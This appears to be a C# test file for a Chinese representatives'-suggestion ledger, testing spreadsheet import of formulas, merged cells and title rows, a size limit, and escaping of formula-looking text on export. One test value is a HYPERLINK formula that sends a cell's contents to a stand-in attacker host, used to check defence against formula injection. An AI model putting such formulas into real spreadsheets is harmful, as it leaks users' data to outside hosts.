using System.Diagnostics;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;

namespace SuggestionDesk.Spreadsheets.Tests.Hostile;

/// <summary>Workbooks as offices make them (merged cells, formulas), formula-looking text on export, and a 50 MB file.</summary>
[Collection(AzuriteCollection.Name)]
public sealed class HostileWorkbookTests(AzuriteFixture azurite) : IDisposable
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
    private static readonly ChangeContext Office = TestClock.As("督办办公室");
    private static readonly string[] Headers = ["编号", "标题", "届次", "提出人", "办理类型", "承办部门", "责任人", "责任人邮箱", "交办日期"];
    private readonly TempDirectory temp = new();

    [Fact]
    public async Task FormulasImportTheirShownValuesAMergedCellFillsItsRowsAndFormulaTextIsNeverExportedAsAFormula()
    {
        var store = azurite.NewStore();
        var path = temp.File("merged.xlsx");
        WriteWorkbook(path, titleRow: false);

        var result = await new LedgerImportService(store, Office).ImportAsync(LedgerFiles.Read(path), skipInvalid: false);

        Assert.True(result.Errors.Count == 0, string.Join(Environment.NewLine, result.Errors));
        Assert.Equal(2, result.Created);
        var first = (await store.FindAsync(SuggestionNumber.Parse("2021/0001")))!;
        var second = (await store.FindAsync(SuggestionNumber.Parse("2021/0002")))!;
        Assert.Equal(("关于推进智慧城市建设的建议", new DateOnly(2021, 3, 15)), (first.Title, first.AssignedOn));
        Assert.Equal((Hyperlink, "规划发展处"), (second.Title, second.Department));

        var ledger = await new LedgerExportService(store).ExportAsync(headers: Language.Chinese);
        LedgerFiles.Write(temp.File("export.xlsx"), ledger);
        LedgerFiles.Write(temp.File("export.csv"), ledger);

        using (var exported = SpreadsheetDocument.Open(temp.File("export.xlsx"), isEditable: false))
        {
            // The ledger and its measures: no formula on either sheet.
            Assert.Equal(2, exported.WorkbookPart!.WorksheetParts.Count());
            Assert.All(exported.WorkbookPart.WorksheetParts, part => Assert.Empty(part.Worksheet.Descendants<CellFormula>()));
        }

        Assert.Contains(Hyperlink, LedgerFiles.Read(temp.File("export.xlsx")).Rows.SelectMany(r => r.Cells));
        var csv = File.ReadAllText(temp.File("export.csv"), Encoding.UTF8);
        Assert.Contains("\"'" + Hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", csv, StringComparison.Ordinal);
        Assert.Contains(Hyperlink, LedgerFiles.Read(temp.File("export.csv")).Rows.SelectMany(r => r.Cells));
    }

    [Fact]
    public async Task AMergedTitleRowAboveTheHeadersIsOneWarningAndTheItemsBelowItAreImported()
    {
        var store = azurite.NewStore();
        var path = temp.File("titled.xlsx");
        WriteWorkbook(path, titleRow: true);

        var result = await new LedgerImportService(store, Office).ImportAsync(LedgerFiles.Read(path), skipInvalid: false);

        Assert.True(result.Errors.Count == 0, string.Join(Environment.NewLine, result.Errors));
        Assert.Equal(2, result.Created);
        var title = Assert.Single(result.Warnings, w => w.Row == 1);
        Assert.Equal("Row 1: looks like a title ('2021年市人大代表建议办理台账'); the headers are on row 2. It was not imported.", title.ToString());
        Assert.Equal(["2021/0001", "2021/0002"], (await store.QueryAsync(ItemQuery.All).ToListAsync()).Select(i => i.Number.Value).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void AFiftyMegabyteFileIsRefusedBeforeItIsReadNamingItsSizeAndTheLimit()
    {
        var path = temp.File("huge.csv");
        using (var writer = new StreamWriter(path, append: false, new UTF8Encoding(encoderShouldEmitUTF8Identifier: true)))
        {
            writer.Write(string.Join(',', Headers) + "\r\n");
            for (var row = 1; writer.BaseStream.Length < 50L * 1024 * 1024; row++)
            {
                writer.Write($"2021/{row:000000},关于第{row}项民生工作的建议,市七届人大一次会议,王代表,主办,规划发展处,李四,lisi@example.gov.cn,2021-03-15\r\n");
            }
        }

        var size = new FileInfo(path).Length;
        var memory = GC.GetTotalMemory(forceFullCollection: true);
        var clock = Stopwatch.StartNew();

        var error = Assert.Throws<InvalidDataException>(() => LedgerFiles.Read(path));

        Assert.Contains($"'{path}' is {size / 1024.0 / 1024:N1} MB; the limit is 20 MB", error.Message, StringComparison.Ordinal);
        Assert.InRange(GC.GetTotalMemory(forceFullCollection: false) - memory, long.MinValue, 10L * 1024 * 1024);
        Assert.InRange(clock.Elapsed, TimeSpan.Zero, TimeSpan.FromSeconds(10));
    }

    public void Dispose() => temp.Dispose();

    /// <summary>
    /// Two items: the first's title and assignment date are formulas with their cached values, the department cell
    /// is merged over both rows, and the second's title is text that looks like a formula. Optionally a merged title row on top.
    /// </summary>
    private static void WriteWorkbook(string path, bool titleRow)
    {
        using var document = SpreadsheetDocument.Create(path, DocumentFormat.OpenXml.SpreadsheetDocumentType.Workbook);
        var workbook = document.AddWorkbookPart();
        workbook.Workbook = new Workbook();
        ExcelWorkbook.AddStyles(workbook);
        var part = workbook.AddNewPart<WorksheetPart>();
        var top = titleRow ? 1u : 0u;
        var data = new SheetData();
        if (titleRow)
        {
            data.Append(new Row(Text("A1", "2021年市人大代表建议办理台账")) { RowIndex = 1 });
        }

        data.Append(new Row(Headers.Select((h, i) => Text($"{(char)('A' + i)}{top + 1}", h))) { RowIndex = top + 1 });
        data.Append(new Row(
            Text($"A{top + 2}", "2021/0001"),
            new Cell { CellReference = $"B{top + 2}", DataType = CellValues.String, CellFormula = new CellFormula("CONCATENATE(\"关于推进\",\"智慧城市建设的建议\")"), CellValue = new CellValue("关于推进智慧城市建设的建议") },
            Text($"C{top + 2}", "市七届人大一次会议"), Text($"D{top + 2}", "王代表"), Text($"E{top + 2}", "主办"), Text($"F{top + 2}", "规划发展处"),
            Text($"G{top + 2}", "李四"), Text($"H{top + 2}", "lisi@example.gov.cn"),
            new Cell { CellReference = $"I{top + 2}", StyleIndex = 1, CellFormula = new CellFormula("DATE(2021,3,15)"), CellValue = new CellValue("44270") }) { RowIndex = top + 2 });
        data.Append(new Row(
            Text($"A{top + 3}", "2021/0002"), Text($"B{top + 3}", Hyperlink), Text($"C{top + 3}", "市七届人大一次会议"), Text($"D{top + 3}", "赵代表"),
            Text($"E{top + 3}", "主办"), new Cell { CellReference = $"F{top + 3}" }, Text($"G{top + 3}", "王五"), Text($"H{top + 3}", "wangwu@example.gov.cn"),
            new Cell { CellReference = $"I{top + 3}", StyleIndex = 1, CellValue = new CellValue("44271") }) { RowIndex = top + 3 });
        var merges = new MergeCells(new MergeCell { Reference = $"F{top + 2}:F{top + 3}" });
        if (titleRow)
        {
            merges.Append(new MergeCell { Reference = "A1:I1" });
        }

        part.Worksheet = new Worksheet(data, merges);
        workbook.Workbook.AppendChild(new Sheets(new Sheet { Id = workbook.GetIdOfPart(part), SheetId = 1, Name = "台账" }));
    }

    private static Cell Text(string reference, string text) =>
        new() { CellReference = reference, DataType = CellValues.InlineString, InlineString = new InlineString(new Text(text)) };
}
